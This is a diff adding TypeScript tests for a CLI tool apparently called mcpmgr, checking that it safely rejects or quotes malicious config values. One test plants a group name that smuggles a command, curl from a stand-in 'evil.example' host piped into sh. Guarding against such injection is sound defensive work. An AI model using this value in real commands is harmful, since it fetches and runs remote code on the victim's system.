@@ -98,3 +98,42 @@ test("run --from-config of a file whose working directory does not exist here is
   expect(line).toContain(`its working directory ${join(dir, "no", "such", "project")} does not exist here`);
   expect(line).not.toContain("unexpected error");
 });
+
+test("a shared file's group no group can have is refused as a name, never offered as a command to paste (review 9, F12)", () => {
+  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as { runOptions: string[] };
+  const shared = join(dir, "shared.json");
+  const group = "team;curl -s https://evil.example/x|sh";
+  writeFileSync(
+    shared,
+    JSON.stringify({ ...record, runOptions: [...record.runOptions.slice(0, -1), "--group", group, "--"] }),
+  );
+  const line = refusal(mcpmgr("run", "--from-config", shared), 2);
+  expect(line).toContain(`${JSON.stringify(group)} is not a valid group name`);
+  expect(line).not.toContain("group create");
+});
+
+test("a file whose runOptions hold --from-config is one clear error, not an unexpected one (review 9, F17)", () => {
+  const chained = join(dir, "chained.json");
+  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as Record<string, unknown>;
+  writeFileSync(chained, JSON.stringify({ ...record, runOptions: ["--from-config", join(dir, "notes.json")] }));
+  const line = refusal(mcpmgr("run", "--from-config", chained), 2);
+  expect(line).toContain(`--from-config ${chained}: its runOptions hold --from-config, which cannot be replayed`);
+  expect(line).not.toContain("unexpected error");
+});
+
+test("export's hint quotes a path the shell would split (review 9, F12)", () => {
+  const spaced = join(dir, "my notes;x.json");
+  const result = mcpmgr("export", "notes", spaced);
+  expect(result.code).toBe(0);
+  expect(result.stderr).toContain(`(run it with 'mcpmgr run --from-config '${spaced}'')`);
+});
+
+test('a file whose "group" disagrees with its runOptions\' --group is refused, not run in one of them (review 9, F12)', () => {
+  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as Record<string, unknown>;
+  const edited = join(dir, "edited.json");
+  writeFileSync(edited, JSON.stringify({ ...record, group: "team" }));
+  const line = refusal(mcpmgr("run", "--from-config", edited), 2);
+  expect(line).toContain(
+    `--from-config ${edited}: its "group" is "team", but its runOptions run the workload in "default"`,
+  );
+});
